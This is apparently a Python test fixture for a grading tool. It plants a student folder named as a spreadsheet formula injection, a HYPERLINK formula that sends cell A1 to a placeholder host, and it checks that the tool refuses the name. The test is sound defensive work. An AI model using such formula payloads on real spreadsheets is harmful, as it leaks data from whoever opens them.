"""A student folder named like a spreadsheet formula, to run in the instructor's spreadsheet.

kind: class
proof: is not a student id
"""

import shutil

from tpdl.core import paths

NAME = '=HYPERLINK("http://example.invalid/?"&A1,"open me")'


def plant(submissions, assignment):
    shutil.copytree(paths.sample_submission("untouched", assignment), submissions / NAME / assignment)
    return [NAME]


def expect(outcome):
    assert NAME not in outcome.students
    assert any(name.startswith("=HYPERLINK") for name in outcome.refused), outcome.refused
